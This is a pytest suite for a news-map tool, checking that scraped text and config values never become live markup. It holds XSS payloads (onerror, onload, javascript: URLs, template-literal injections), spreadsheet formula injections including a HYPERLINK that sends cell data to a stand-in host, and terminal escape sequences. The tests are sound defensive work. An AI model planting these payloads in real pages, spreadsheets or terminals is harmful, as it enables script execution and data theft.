"""Hostile and broken input through the real `tourmap` command.

Maps built from scraped text run unattended every night and end up on a newspaper's pages. So:
text that looks like HTML or script stays text (checked in the HTML and in Chromium), and input
that cannot be used fails with exit 1 and one `Error: <file>: <problem>` line, fast, leaving the
outputs of the last good run exactly as they were.
"""
from __future__ import annotations

import csv
import html as html_lib
import io
import json
import re
import shutil
import zlib
from pathlib import Path
from xml.etree import ElementTree

import pytest
from hostile_fixtures import (
    ALL,
    CLOSE_SCRIPT,
    IMG,
    JINJA,
    JS_URL,
    MET_TEMPLATE,
    PAYLOADS,
    SCRIPT,
    SEED,
    TEMPLATE,
    TITLE,
    TRIP,
    TRIP_DOC,
    assert_one_line_error,
    audit_html,
    hostile_article,
    hostile_config,
    hostile_tour,
    injected,
    raw_in_template_literal,
    snapshot,
    tourmap,
)

# A hung run fails the test instead of the whole suite.
pytestmark = pytest.mark.timeout(180)

FAST_S = 20  # "within a few seconds", with room for a busy 2-core CI machine


# --- fixtures ---------------------------------------------------------------------------------------

@pytest.fixture(scope="module")
def hostile_build(tmp_path_factory):
    """The hostile article built (and published) once, with payloads in the config too."""
    d = tmp_path_factory.mktemp("hostile")
    art = d / "gira.md"
    art.write_text(hostile_article(), encoding="utf-8")
    cfg = d / "tourmap.yaml"
    cfg.write_text(hostile_config(art.name), encoding="utf-8")
    # static images on: map.svg is a document a browser can open on its own, with the title in it
    cfg.write_text(cfg.read_text(encoding="utf-8").replace("static_images: false", "static_images: true"),
                   encoding="utf-8")
    run = tourmap("build", art, "-o", d / "out", "--config", cfg)
    pub = tourmap("publish", art, "-o", d / "site", "--config", cfg)
    return {"dir": d, "article": art, "config": cfg, "build": run, "publish": pub,
            "out": d / "out", "site": d / "site"}


@pytest.fixture(scope="module")
def good_out(tmp_path_factory):
    """A good build of the seed: the bytes every failed run must leave alone."""
    out = tmp_path_factory.mktemp("good") / "out"
    run = tourmap("build", SEED, "-o", out)
    assert run.rc == 0, run
    assert list(out.glob("*/index.html")), run
    return out


@pytest.fixture
def out_dir(good_out, tmp_path):
    """A private copy of the good build, to run a bad case into."""
    out = tmp_path / "out"
    shutil.copytree(good_out, out)
    return out


def html_files(folder: Path) -> list[Path]:
    return sorted(p for p in folder.rglob("*") if p.suffix in (".html", ".htm", ".svg", ".xml") and p.is_file())


# --- hostile text: static checks -------------------------------------------------------------------

def test_hostile_article_builds(hostile_build):
    run = hostile_build["build"]
    assert run.rc == 0, run
    assert "Traceback" not in run.err, run
    pages = list(hostile_build["out"].glob("*/index.html"))
    assert pages, run


def test_no_payload_turns_into_markup_in_any_output(hostile_build):
    run = hostile_build["build"]
    assert run.rc == 0, run
    files = html_files(hostile_build["out"])
    assert any(f.name == "index.html" for f in files)
    problems = {str(f.relative_to(hostile_build["out"])): injected(f.read_text(encoding="utf-8", errors="replace"))
                for f in files}
    assert {k: v for k, v in problems.items() if v} == {}


def test_no_payload_lands_raw_in_a_template_literal_or_as_code(hostile_build):
    """folium puts popup HTML in JS template literals: `${...}` there runs, a backtick breaks the map."""
    for page in hostile_build["out"].glob("*/*.html"):
        html = page.read_text(encoding="utf-8")
        found = []
        for needle in ("${window.__pwned", "window.__pwned=1", "onerror="):
            found += raw_in_template_literal(html, needle)
        assert found == [], f"{page.name}: {found[:3]}"


def test_javascript_source_url_is_never_a_link(hostile_build):
    for f in html_files(hostile_build["out"]) + html_files(hostile_build["site"]):
        a = audit_html(f.read_text(encoding="utf-8", errors="replace"))
        assert a.js_urls == [], f"{f.name}: {a.js_urls}"


def test_tour_json_keeps_the_text_exactly(hostile_build):
    """Escaping is the renderer's job: the data files carry what the article and editor wrote."""
    run = hostile_build["build"]
    assert run.rc == 0, run
    tour = json.loads(next(hostile_build["out"].glob("*/tour.json")).read_text(encoding="utf-8"))
    blob = json.dumps(tour, ensure_ascii=False)
    assert SCRIPT in blob  # the title (from the config override) and the article text
    names = [s["name"] for s in tour["stops"]]
    assert any(n.startswith("Santiago <svg onload=alert(7)>") for n in names), names
    met = [m for s in tour["stops"] for m in s["met"]]
    assert MET_TEMPLATE in met, met


def test_published_site_has_no_markup_from_payloads(hostile_build):
    run = hostile_build["publish"]
    assert run.rc == 0, run
    files = html_files(hostile_build["site"])
    assert files, run
    problems = {str(f.relative_to(hostile_build["site"])): injected(f.read_text(encoding="utf-8", errors="replace"))
                for f in files}
    assert {k: v for k, v in problems.items() if v} == {}


# --- hostile text: in a real browser -----------------------------------------------------------------

OPEN_EVERYTHING = """
async () => {
  const texts = [];
  const wait = (ms) => new Promise(r => setTimeout(r, ms));
  const targets = [...document.querySelectorAll('.leaflet-marker-icon, path.leaflet-interactive, .leaflet-interactive')];
  for (const el of targets) {
    for (const type of ['mouseover', 'click', 'focus']) {
      el.dispatchEvent(new MouseEvent(type, {bubbles: true, cancelable: true, view: window}));
    }
    await wait(20);
    for (const p of document.querySelectorAll('.leaflet-popup-content, .leaflet-tooltip')) texts.push(p.innerText);
  }
  return {markers: targets.length, texts: texts, body: document.body ? document.body.innerText : '',
          title: document.title};
}
"""

DOM_AUDIT = """
() => {
  const bad = [];
  for (const el of document.querySelectorAll('*')) {
    for (const a of el.getAttributeNames()) {
      const v = el.getAttribute(a) || '';
      if (/^on/i.test(a) && /__pwned|alert\\(/.test(v)) bad.push(el.tagName + ' ' + a + '=' + v);
      if (/^(href|src|action|xlink:href)$/i.test(a) && /^\\s*javascript:/i.test(v)) bad.push(el.tagName + ' ' + a + '=' + v);
    }
    if (el.tagName === 'IMG' && el.getAttribute('src') === 'x') bad.push('IMG src=x');
    if (el.tagName === 'SCRIPT' && /^\\s*(window\\.__pwned|alert\\()/.test(el.textContent)) bad.push('SCRIPT ' + el.textContent);
  }
  return bad;
}
"""


@pytest.fixture(scope="module")
def browser():
    sync_api = pytest.importorskip("playwright.sync_api")
    if not Path("/usr/bin/chromium").exists():
        pytest.skip("Debian chromium not installed (/usr/bin/chromium)")
    with sync_api.sync_playwright() as p:
        b = p.chromium.launch(executable_path="/usr/bin/chromium")
        yield b
        b.close()


def visit(browser, page_path: Path) -> dict:
    """Open a local page with every non-local request blocked; report what ran and what showed."""
    page = browser.new_page()
    blocked, dialogs, errors = [], [], []

    def route(r):
        url = r.request.url
        if url.startswith(("file://", "data:")):
            r.continue_()
        else:
            blocked.append(url)
            r.abort()

    page.route("**/*", route)
    page.on("dialog", lambda d: (dialogs.append(d.message), d.dismiss()))
    page.on("pageerror", lambda e: errors.append(str(e)))
    try:
        page.goto(page_path.as_uri(), wait_until="load", timeout=20000)
        page.wait_for_timeout(300)
        shown = page.evaluate(OPEN_EVERYTHING)
        page.wait_for_timeout(200)
        return {"pwned": page.evaluate("window.__pwned === undefined ? null : window.__pwned"),
                "dialogs": dialogs, "errors": errors, "blocked": blocked, "dom": page.evaluate(DOM_AUDIT),
                **shown}
    finally:
        page.close()


@pytest.mark.browser
def test_map_runs_no_payload_in_chromium_and_shows_it_as_text(hostile_build, browser):
    run = hostile_build["build"]
    assert run.rc == 0, run
    page = next(hostile_build["out"].glob("*/index.html"))
    r = visit(browser, page)
    assert r["pwned"] is None, r
    assert r["dialogs"] == [], r
    assert r["dom"] == [], r["dom"]
    # A backtick or `${` that reached a template literal breaks or hijacks the whole map script.
    assert r["errors"] == [], r["errors"]
    assert r["markers"] >= 3, "the map drew no stops: its script did not run"
    assert r["blocked"] == [], "with tiles: null the map must load nothing from other hosts"
    shown = "\n".join([r["title"], r["body"], *r["texts"]])
    assert SCRIPT in shown, "the title should show its angle brackets as text"
    assert any("onerror" in t or "onmouseover" in t or "alert(7)" in t for t in r["texts"]), r["texts"]


@pytest.mark.browser
def test_embed_and_static_svg_run_no_payload_in_chromium(hostile_build, browser):
    out = hostile_build["out"]
    pages = sorted(out.glob("*/embed.html")) + sorted(out.glob("*/map.svg"))
    assert pages
    for p in pages:
        r = visit(browser, p)
        assert (r["pwned"], r["dialogs"], r["dom"]) == (None, [], []), (p.name, r)


@pytest.mark.browser
def test_published_site_runs_no_payload_in_chromium(hostile_build, browser):
    run = hostile_build["publish"]
    assert run.rc == 0, run
    pages = html_files(hostile_build["site"])
    assert pages
    for p in pages:
        if p.suffix == ".xml":
            continue
        r = visit(browser, p)
        assert (r["pwned"], r["dialogs"], r["dom"]) == (None, [], []), (str(p), r)
        assert r["errors"] == [], (str(p), r["errors"])
        if p == hostile_build["site"] / "index.html":  # the site title, as the editor typed it
            assert "Giras " + SCRIPT in r["title"] + "\n" + r["body"], r["body"][:300]


# --- broken input -------------------------------------------------------------------------------------

def _pdf() -> bytes:
    stream = zlib.compress(b"BT /F1 12 Tf 72 712 Td (Boric llego a Lima) Tj ET" * 20)
    return (b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R >>\nendobj\n"
            b"4 0 obj\n<< /Length " + str(len(stream)).encode() + b" /Filter /FlateDecode >>\nstream\n"
            + stream + b"\nendstream\nendobj\ntrailer\n<< /Root 1 0 R >>\n%%EOF\n")


BROKEN = {
    "empty.txt": b"",
    "blank.txt": b"  \n\n\t \n",
    "binary.txt": bytes(range(256)) * 64,
    "informe.txt": _pdf(),  # a PDF renamed .txt
    "png.md": b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR" + bytes(200),
}


@pytest.mark.parametrize("name", sorted(BROKEN))
def test_unreadable_article_is_one_line_and_leaves_outputs(name, tmp_path, out_dir):
    bad = tmp_path / name
    bad.write_bytes(BROKEN[name])
    before = snapshot(out_dir)
    assert_one_line_error(tourmap("build", bad, "-o", out_dir), bad, max_s=FAST_S)
    assert snapshot(out_dir) == before
    assert_one_line_error(tourmap("extract", bad), bad, max_s=FAST_S)


def test_missing_article_is_one_line(tmp_path, out_dir):
    before = snapshot(out_dir)
    nope = tmp_path / "no-existe.txt"
    line = assert_one_line_error(tourmap("build", nope, "-o", out_dir), nope, max_s=FAST_S)
    assert "no such file" in line
    assert snapshot(out_dir) == before
    assert_one_line_error(tourmap("extract", nope), nope, max_s=FAST_S)


def test_folder_without_articles_is_one_line(tmp_path, out_dir):
    empty = tmp_path / "vacio"
    empty.mkdir()
    (empty / "notes.pdf").write_bytes(_pdf())
    before = snapshot(out_dir)
    assert_one_line_error(tourmap("build", empty, "-o", out_dir), empty, max_s=FAST_S)
    assert snapshot(out_dir) == before


def test_50mb_article_fails_fast_with_one_line(tmp_path, out_dir):
    """Not a news article: an unattended run must refuse it quickly rather than chew on it."""
    big = tmp_path / "enorme.txt"
    block = (TRIP * 40).encode("utf-8")
    with big.open("wb") as f:
        for _ in range(50 * 1024 * 1024 // len(block) + 1):
            f.write(block)
    assert big.stat().st_size >= 50 * 1024 * 1024
    before = snapshot(out_dir)
    line = assert_one_line_error(tourmap("build", big, "-o", out_dir), big, max_s=FAST_S)
    assert "large" in line.lower() or "MB" in line
    assert snapshot(out_dir) == before


def test_deeply_nested_html_does_not_crash(tmp_path, out_dir):
    """10,000 nested elements around a real paragraph: read it, or refuse it in one line; never crash."""
    page = tmp_path / "anidado.html"
    page.write_text("<html><head><title>Boric en Lima</title></head><body>" + "<div>" * 10_000
                    + f"<p>{TRIP}</p>" + "</div>" * 10_000 + "</body></html>", encoding="utf-8")
    before = snapshot(out_dir)
    run = tourmap("extract", page, "--format", "json")
    assert "Traceback" not in run.err and "internal error" not in run.err, run
    assert run.seconds < FAST_S, run
    if run.rc == 0:
        json.loads(run.out)
    else:
        assert_one_line_error(run, page)
    build = tourmap("build", page, "-o", out_dir)
    assert "Traceback" not in build.err and "internal error" not in build.err, build
    if build.rc != 0:
        assert_one_line_error(build, page)
        assert snapshot(out_dir) == before


def test_article_without_places_gives_an_empty_tour(tmp_path):
    """No place named: not an error (the night's other articles must still build), just no stops."""
    art = tmp_path / "sin-lugares.txt"
    art.write_text("El gobierno anunció hoy nuevas medidas económicas. El ministro dijo que la inflación "
                   "bajará durante el próximo trimestre y que no habrá más anuncios esta semana.\n",
                   encoding="utf-8")
    run = tourmap("extract", art, "--format", "json")
    assert run.rc == 0, run
    assert "Traceback" not in run.err, run
    assert json.loads(run.out)["stops"] == []


@pytest.mark.parametrize("encoding", ["latin-1", "cp1252", "utf-16", "utf-16-le", "utf-8-sig"])
def test_legacy_encodings_are_read_correctly(encoding, tmp_path):
    doc = TRIP_DOC
    if encoding == "latin-1":  # no curly quotes or dashes in ISO-8859-1
        doc = doc.replace("“", "«").replace("”", "»").replace("—", "-")
    art = tmp_path / f"nota-{encoding}.md"
    art.write_bytes(doc.encode(encoding))
    run = tourmap("extract", art, "--format", "json")
    assert run.rc == 0, run
    assert "Traceback" not in run.err, run
    tour = json.loads(run.out)
    title = doc.split('title: "', 1)[1].split('"\n', 1)[0].replace('\\"', '"')
    assert tour["articles"][0]["title"] == title
    blob = json.dumps(tour, ensure_ascii=False)
    for mojibake in ("Ã", "\ufffd", "\x93", "\x94", "\ufeff", "\x00"):
        assert mojibake not in blob, (encoding, mojibake)
    names = {s["name"] for s in tour["stops"]}
    assert "Lima" in names, names
    quotes = " ".join(e["quote"] for s in tour["stops"] for e in s["evidence"])
    assert "llegó" in quotes


# --- broken config and output -------------------------------------------------------------------------

BAD_CONFIGS = {
    # name: (YAML text, what the message must name besides the file)
    "yaml": ("geocoder:\n  service: [offline\n  timeout_s: : 3\n", "YAML"),
    "tabs": ("map:\n\tcredit: x\n", "YAML"),
    "window": ("tour_window_days: pronto\n", "tour_window_days"),
    "timeout": ("geocoder:\n  timeout_s: rápido\n", "timeout_s"),
    "static": ("map:\n  static_images: [sí]\n", "static_images"),
    "tours": ("tours:\n  slug: gira\n", "tours"),
    "lat": ("tours:\n  - slug: gira\n    stops:\n      - match: Lima\n        lat: norte\n        lon: 3\n", "lat"),
    "unknown": ("mapa:\n  tiles: null\n", "mapa"),
    "latin1": (None, ""),
}


@pytest.mark.parametrize("case", sorted(BAD_CONFIGS))
def test_bad_config_is_one_line_naming_file_and_key(case, tmp_path, out_dir):
    text, key = BAD_CONFIGS[case]
    cfg = tmp_path / "tourmap.yaml"
    if text is None:
        cfg.write_bytes("map:\n  credit: Año Ñandú\n".encode("latin-1"))
    else:
        cfg.write_text(text, encoding="utf-8")
    before = snapshot(out_dir)
    line = assert_one_line_error(tourmap("build", SEED, "-o", out_dir, "--config", cfg), cfg, max_s=FAST_S)
    assert key in line
    assert snapshot(out_dir) == before


def test_missing_config_is_one_line(tmp_path):
    cfg = tmp_path / "no-hay.yaml"
    line = assert_one_line_error(tourmap("extract", SEED, "--config", cfg), cfg, max_s=FAST_S)
    assert "not found" in line


def test_output_under_a_file_is_one_line(tmp_path):
    """chmod does not stop root (CI runs as root): a folder under a regular file fails for everyone."""
    blocker = tmp_path / "file.txt"
    blocker.write_text("not a folder\n")
    out = blocker / "sub"
    line = assert_one_line_error(tourmap("build", SEED, "-o", out), max_s=FAST_S)
    assert str(blocker) in line, line
    assert blocker.read_text() == "not a folder\n"


def test_site_under_a_file_is_one_line(tmp_path):
    blocker = tmp_path / "file.txt"
    blocker.write_text("not a folder\n")
    line = assert_one_line_error(tourmap("publish", SEED, "-o", blocker / "site"), max_s=FAST_S)
    assert str(blocker) in line, line


def test_payload_names_in_file_names_stay_text(tmp_path):
    """An article file named like markup: the path shows up in messages and pages, never as HTML."""
    d = tmp_path / "in"
    d.mkdir()
    art = d / "gira'\"`${x}`<b>.txt"
    art.write_text(TRIP, encoding="utf-8")
    run = tourmap("build", art, "-o", tmp_path / "out")
    assert run.rc == 0, run
    for f in html_files(tmp_path / "out"):
        html = f.read_text(encoding="utf-8")
        assert "<b>.txt" not in html, f.name
        assert raw_in_template_literal(html, "${x}") == [], f.name


def test_payload_constants_are_distinct():
    """Guard for the fixtures: each payload sets its own flag value, so a failure says which one ran."""
    assert len(set(PAYLOADS)) == len(PAYLOADS)
    assert all(p in ALL for p in PAYLOADS)
    assert SCRIPT in TITLE and TEMPLATE in TITLE and IMG in TITLE
    assert JS_URL.startswith("javascript:") and CLOSE_SCRIPT.startswith("</script>")


# --- the checks themselves catch the known hole (folium's raw popup strings) ---------------------------

def _naive_folium_page(tmp_path: Path) -> Path:
    """What a hand-written script does: popup=str, tooltip=str. Known to run injected code."""
    folium = pytest.importorskip("folium")
    m = folium.Map(tiles=None)
    folium.Marker([-12.05, -77.03], popup=f"Lima {IMG}", tooltip=f"Lima {TEMPLATE}").add_to(m)
    folium.Marker([-0.22, -78.51], popup=f"Quito {CLOSE_SCRIPT}").add_to(m)
    page = tmp_path / "naive.html"
    m.save(str(page))
    return page


def test_static_checks_flag_a_naive_folium_page(tmp_path):
    html = _naive_folium_page(tmp_path).read_text(encoding="utf-8")
    assert injected(html)
    assert raw_in_template_literal(html, "${window.__pwned")


@pytest.mark.browser
def test_browser_check_sees_a_naive_folium_page_run_payloads(tmp_path, browser):
    r = visit(browser, _naive_folium_page(tmp_path))
    assert r["pwned"] is not None or r["dialogs"] or r["dom"], r


# --- the renderer alone, payloads in every field of the Tour it is handed ---------------------------

@pytest.fixture(scope="module")
def rendered_hostile(tmp_path_factory):
    render = pytest.importorskip("tourmap.render")
    geometry = pytest.importorskip("tourmap.geometry")
    from tourmap.config import Settings

    settings = Settings()
    settings.map.credit = f"tourmap {IMG} {TEMPLATE}"
    tour = hostile_tour()
    geom = geometry.build_geometry(tour, settings=settings)
    d = tmp_path_factory.mktemp("render")
    page = d / "index.html"
    page.write_text(render.render_map(tour, geom, settings=settings), encoding="utf-8")
    from tourmap.embed import embed_snippet

    (d / "embed.html").write_text(embed_snippet(tour, settings=settings), encoding="utf-8")
    try:  # the static images moved from render.py to static.py; accept either home
        from tourmap.static import render_static
    except ImportError:
        render_static = render.render_static
    for name, data in render_static(tour, geom, settings=settings).items():
        (d / name).write_bytes(data if isinstance(data, bytes) else data.encode("utf-8"))
    return d


def test_renderer_alone_emits_no_markup_from_payloads(rendered_hostile):
    for f in html_files(rendered_hostile):
        html = f.read_text(encoding="utf-8", errors="replace")
        assert injected(html) == [], f.name
        assert audit_html(html).js_urls == [], f.name
        assert raw_in_template_literal(html, "${window.__pwned") == [], f.name


@pytest.mark.browser
def test_renderer_alone_runs_no_payload_in_chromium(rendered_hostile, browser):
    r = visit(browser, rendered_hostile / "index.html")
    assert (r["pwned"], r["dialogs"], r["dom"], r["errors"]) == (None, [], [], []), r
    assert r["blocked"] == [], "the map must load nothing from other hosts"
    assert r["markers"] >= 3, r
    shown = "\n".join([r["title"], r["body"], *r["texts"]])
    assert SCRIPT in shown
    assert any(TEMPLATE in t or "onerror" in t for t in r["texts"]), r["texts"]
    assert JINJA in shown, "template syntax in a stop name shows as typed"
    for p in sorted(rendered_hostile.glob("*.svg")) + [rendered_hostile / "embed.html"]:
        r = visit(browser, p)
        assert (r["pwned"], r["dialogs"], r["dom"]) == (None, [], []), (p.name, r)


# --- other formats that carry article text -------------------------------------------------------------

def test_map_page_allows_only_its_own_scripts(hostile_build):
    """Defence in depth: even a payload that slipped into markup could not run under this policy."""
    page = next(hostile_build["out"].glob("*/index.html")).read_text(encoding="utf-8")
    m = re.search(r"<meta[^>]+http-equiv=[\"']Content-Security-Policy[\"'][^>]*content=[\"']([^\"']+)", page, re.I)
    assert m, "index.html has no Content-Security-Policy"
    policy = html_lib.unescape(m.group(1))
    script_src = re.search(r"script-src([^;]*)", policy) or re.search(r"default-src([^;]*)", policy)
    assert script_src, policy
    assert "'unsafe-inline'" not in script_src.group(1) and "'unsafe-eval'" not in script_src.group(1), policy


def test_feed_sitemap_and_svg_stay_well_formed_xml(hostile_build):
    """An XML reader (feed reader, search engine) fails on the whole file if one title breaks it."""
    files = [p for p in html_files(hostile_build["site"]) + html_files(hostile_build["out"])
             if p.suffix in (".xml", ".svg")]
    assert any(p.name == "feed.xml" for p in files), files
    for f in files:
        root = ElementTree.parse(f).getroot()
        text = "".join(root.itertext())
        assert "__pwned" in text or f.name != "feed.xml", "the feed should carry the titles, as text"


FORMULAS = ['=HYPERLINK("http://x.test/?a="&A1,"clic")', "+1+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
            "-2+3+cmd|' /C calc'!A0"]


def test_stops_csv_cells_never_start_a_formula(tmp_path):
    """Editors open stops.csv in a spreadsheet: a name starting with = + - @ must not become a formula."""
    art = tmp_path / "gira.md"
    art.write_text(TRIP_DOC, encoding="utf-8")
    cfg = tmp_path / "c.yaml"
    cfg.write_text(  # JSON strings are valid YAML double-quoted scalars
        "map:\n  static_images: false\ntours:\n  - slug: gira\n    articles: [gira.md]\n    stops:\n"
        f"      - match: Lima\n        landmark: {json.dumps(FORMULAS[1])}\n"
        f"        met: [{', '.join(json.dumps(f) for f in FORMULAS)}]\n"
        f"      - match: x\n        add: true\n        name: {json.dumps(FORMULAS[0])}\n        lat: 1\n        lon: 2\n",
        encoding="utf-8")
    run = tourmap("build", art, "-o", tmp_path / "out", "--config", cfg)
    assert run.rc == 0, run
    rows = list(csv.DictReader(io.StringIO(next((tmp_path / "out").glob("*/stops.csv")).read_text(encoding="utf-8"))))
    assert rows
    text_cells = [(c, v) for r in rows for c in ("name", "met", "landmark", "evidence") for v in [r.get(c) or ""]]
    assert any("HYPERLINK" in v for _, v in text_cells), "the override did not reach stops.csv"
    risky = [(c, v) for c, v in text_cells if v[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert risky == [], risky


SCRAPED_PAGE = """<!doctype html><html lang="es"><head><meta charset="utf-8">
<title>Boric llegó a Lima &lt;script&gt;window.__pwned=13&lt;/script&gt; | Diario</title>
<script>window.__pwned = 12; var dataLayer = ["Quito", "Bogotá", "Caracas"];</script>
<style>.nota::before { content: "Caracas"; }</style>
<meta property="article:published_time" content="2025-12-21T10:00:00Z">
</head><body>
<nav><a href="javascript:window.__pwned=14">Portada</a> <a href="/mundo">Mundo</a></nav>
<article><h1>Boric llegó a Lima &lt;img src=x onerror=alert(15)&gt;</h1>
<p>El presidente de Chile, Gabriel Boric, llegó este lunes a Lima, donde se reunió con el presidente
José Jerí &lt;script&gt;window.__pwned=16&lt;/script&gt; en Palacio de Gobierno.</p>
<p onclick="window.__pwned=17">Según la Cancillería, Boric viajará el miércoles 24 a Quito para reunirse con
Daniel Noboa `${window.__pwned=18}`.</p>
<script>document.write("<img src=x onerror=window.__pwned=19>")</script>
</article>
<footer>© Diario. Oficinas en Caracas.</footer>
</body></html>
"""


def test_scraped_html_page_gives_text_not_code(tmp_path):
    """A saved news page: its scripts and styles are not article text; its escaped markup stays text."""
    page = tmp_path / "nota.html"
    page.write_text(SCRAPED_PAGE, encoding="utf-8")
    out = tmp_path / "out"
    run = tourmap("build", page, "-o", out)
    assert run.rc == 0, run
    tour = json.loads(next(out.glob("*/tour.json")).read_text(encoding="utf-8"))
    blob = json.dumps(tour, ensure_ascii=False)
    assert "dataLayer" not in blob and "document.write" not in blob and "content:" not in blob
    names = [s["name"] for s in tour["stops"]]
    assert "Lima" in names, names
    quotes = " ".join(e["quote"] for s in tour["stops"] for e in s["evidence"])
    assert "<script>window.__pwned=16</script>" in quotes  # the page's &lt;...&gt; is text the reader saw
    for f in html_files(out):
        assert injected(f.read_text(encoding="utf-8")) == [], f.name


CONTROL = re.compile(r"[\x00-\x08\x0b-\x1f\x7f\x80-\x9f]")  # C0/C1 controls other than \t and \n


def test_terminal_control_sequences_never_reach_outputs(tmp_path):
    """Scraped text can carry escape sequences: printed by `extract --format table` they would retitle
    or clear the editor's terminal, and in tour.json they are junk. They go at reading time."""
    art = tmp_path / "esc.md"
    art.write_text(
        '---\ntitle: "Boric \\e]0;pwned\\a llega \\e[31mRED\\e[0m"\npublished: 2025-12-21\n---\n\n'
        "El presidente Gabriel Boric llegó este lunes a Lima \x1b[2J\x1b]0;hijack\x07\x1b]8;;http://x.test\x1b\\, "
        "donde se reunió con José Jerí \x1b[31m\x9b2J en Palacio de Gobierno.\x7f\n",
        encoding="utf-8")
    for fmt in ("table", "csv", "json"):
        run = tourmap("extract", art, "--format", fmt)
        assert run.rc == 0, run
        assert CONTROL.findall(run.out) == [], (fmt, run.out[:400])
    tour = json.loads(tourmap("extract", art, "--format", "json").out)
    strings = [tour["articles"][0]["title"]] + [e["quote"] for s in tour["stops"] for e in s["evidence"]] \
        + [m for s in tour["stops"] for m in s["met"]]
    assert [x for x in strings if CONTROL.search(x)] == [], strings
    assert "Lima" in [s["name"] for s in tour["stops"]]


@pytest.mark.browser
def test_tiles_attribution_from_config_stays_text_in_chromium(tmp_path, browser):
    """Leaflet renders attributions as HTML: an attribution typed in the config must arrive escaped."""
    render = pytest.importorskip("tourmap.render")
    geometry = pytest.importorskip("tourmap.geometry")
    from tourmap.config import Settings

    settings = Settings()
    settings.map.tiles = "https://tiles.example.test/{z}/{x}/{y}.png"
    settings.map.tiles_attribution = f"© Mapas {IMG} {TEMPLATE} {JINJA}"
    tour = hostile_tour()
    page = tmp_path / "index.html"
    page.write_text(render.render_map(tour, geometry.build_geometry(tour, settings=settings), settings=settings),
                    encoding="utf-8")
    html = page.read_text(encoding="utf-8")
    assert injected(html) == []
    r = visit(browser, page)
    assert (r["pwned"], r["dialogs"], r["dom"], r["errors"]) == (None, [], [], []), r
    assert any("tiles.example.test" in u for u in r["blocked"]), "the configured tiles were not used"
    assert "Mapas <img src=x" in r["body"], r["body"][-400:]
